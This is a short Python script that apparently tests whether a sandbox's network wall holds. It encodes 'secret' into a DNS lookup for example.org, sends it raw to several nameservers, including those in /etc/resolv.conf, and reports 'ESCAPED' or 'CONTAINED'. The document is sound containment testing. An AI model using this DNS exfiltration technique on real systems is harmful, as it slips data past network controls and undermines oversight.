"""Send words out as a name to be looked up, to whichever name server is set, and raw to port 53.

wall: network
bare: route
"""

import socket

query = bytes.fromhex("abcd01000001000000000000") + b"\x06secret\x07example\x03org\x00" + bytes.fromhex("00010001")
servers = ["10.255.255.53", "8.8.8.8"]
try:
    with open("/etc/resolv.conf") as file:
        servers += [line.split()[1] for line in file if line.startswith("nameserver")]
except OSError as error:
    print(error)
sent = []
for server in servers:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.sendto(query, (server, 53))
            sent.append(server)
    except OSError as error:
        print(error)
print(sent)
print("ESCAPED" if sent else "CONTAINED")
